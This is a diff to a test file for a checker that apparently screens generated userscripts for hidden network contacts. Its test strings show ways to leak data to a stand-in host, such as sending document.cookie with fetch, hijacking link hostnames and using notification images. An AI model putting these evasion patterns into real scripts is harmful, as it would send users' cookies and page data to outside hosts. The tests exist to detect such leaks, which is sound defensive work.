@@ -1,6 +1,5 @@
 import type { PageOutline, ScriptPlan } from "@scriptorium/shared-protocol/hub-edge/script-plan";
 import { describe, expect, test } from "vitest";
-import { allowedPlan, type ProposedPlan } from "./allowed-plan.ts";
 import { type CodeProblem, checkCode } from "./check-code.ts";
 import { previousScript } from "./previous-script.ts";
 
@@ -135,6 +134,11 @@ describe("a host hides in", () => {
 		["a part of a link", `const a = await element(2); a.hostname = '${EVIL}'; a.click();`],
 		["a part of a link, with its port", `const a = await element(2); a.host = '${EVIL}:8080'; a.click();`],
 		["parts that are assigned together", `Object.assign(await element(2), { hostname: '${EVIL}' }).click();`],
+		[
+			"a link that has the name of an object",
+			`const a = {}; ((a) => { a.hostname = '${EVIL}'; a.click(); })(await element(2));`,
+		],
+		["a link that replaces an object", `let a = {}; a = await element(2); a.hostname = '${EVIL}'; a.click();`],
 		["the picture of a notification", `GM_notification({ text: 'a', image: 'https://${EVIL}/?' + document.title });`],
 		["the picture of a notification by position", `GM_notification('a', 'b', 'https://${EVIL}/?' + document.title);`],
 		["a notification that is called by another name", `const n = GM_notification; n({ image: 'https://${EVIL}/' });`],
@@ -237,63 +241,11 @@ test("a bookmarklet may contact the site that was shared, chosen or named", () =
 	expect(check("await fetch('https://api.example.net/');", plan).map(({ host }) => host)).toEqual(["api.example.net"]);
 });
 
-describe("a script that is changed", () => {
-	const proposal: ProposedPlan = { summary: "s", steps: [], grants: [], hosts: [], elements: [], unseen: null };
-	const before = (existingCode: string) => previousScript({ existingCode, isModification: true });
-
-	test("has the hosts of its requests and of @connect, shown in the plan", () => {
-		const existingCode = [
-			"// ==UserScript==",
-			"// @name A",
-			"// @match https://a.example/*",
-			"// @grant GM_xmlhttpRequest",
-			"// @connect api.example.net",
-			"// @connect *",
-			"// @connect com",
-			"// ==/UserScript==",
-			"fetch('https://list.example.net/');",
-		].join("\n");
-		const previous = before(existingCode);
-		expect(previous).toMatchObject({
-			contacts: ["api.example.net", "list.example.net"],
-			grants: ["GM_xmlhttpRequest"],
-		});
-		const plan = allowedPlan({ prompt: "Make it faster", isUserscript: true, previous }, proposal);
-		expect(plan).toMatchObject({ matches: ["https://a.example/*"], hosts: ["api.example.net", "list.example.net"] });
-	});
-
-	test("gets no function for requests because of what it contacted", () => {
-		const greedy = { ...proposal, grants: ["GM_xmlhttpRequest", "GM_cookie"], hosts: ["list.example.net"] };
-		const choice = { isUserscript: true, previous: before("fetch('https://list.example.net/');") };
-		expect(allowedPlan({ ...choice, prompt: "Make it faster" }, greedy).grants).toEqual([]);
-		const named = allowedPlan({ ...choice, prompt: "Ask list.example.net across sites" }, greedy);
-		expect(named.grants).toEqual(["GM_xmlhttpRequest"]);
-	});
-
-	test("gives no host away that it harms people with, only quotes, or only loads a library from", () => {
-		expect(before(`fetch('https://${EVIL}/?' + document.cookie);`)?.contacts).toEqual([]);
-		expect(before(`/* fetch('https://${EVIL}/') */ console.log("https://${EVIL}/");`)?.contacts).toEqual([]);
-		const library = `// ==UserScript==\n// @name A\n// @require https://${EVIL}/a.js\n// ==/UserScript==\nvoid 0;`;
-		expect(before(library)?.contacts).toEqual([]);
-	});
-
-	test("may keep a link, and sends no data there", () => {
-		const link = `const a = document.createElement('a'); a.href = 'https://${EVIL}/'; document.body.append(a);`;
-		const previous = before(link);
-		expect(previous).toMatchObject({ contacts: [], links: [EVIL] });
-		expect(check(link, planOf(), { previous })).toEqual([]);
-		expect(check(link.replace("/'", "/?' + document.title"), planOf(), { previous })).not.toEqual([]);
-		expect(check(`${link} await fetch('https://${EVIL}/');`, planOf(), { previous })).not.toEqual([]);
-	});
-
-	test("counts only when a change is asked for", () => {
-		expect(previousScript({ existingCode: "fetch('https://list.example.net/');" })).toBeNull();
-		expect(previousScript({ existingCode: " ", isModification: true })).toBeNull();
-	});
-
-	test("is not read from a block inside of a comment", () => {
-		const existingCode =
-			"/*\n// ==UserScript==\n// @name A\n// @match *://*/*\n// @grant GM_cookie\n// ==/UserScript==\n*/ f();";
-		expect(before(existingCode)).toMatchObject({ block: null, grants: [], runsOn: [] });
-	});
+test("a script that is changed may keep a link, and sends no data there", () => {
+	const link = `const a = document.createElement('a'); a.href = 'https://${EVIL}/'; document.body.append(a);`;
+	const previous = previousScript({ existingCode: link, isModification: true });
+	expect(previous).toMatchObject({ contacts: [], links: [EVIL] });
+	expect(check(link, planOf(), { previous })).toEqual([]);
+	expect(check(link.replace("/'", "/?' + document.title"), planOf(), { previous })).not.toEqual([]);
+	expect(check(`${link} await fetch('https://${EVIL}/');`, planOf(), { previous })).not.toEqual([]);
 });
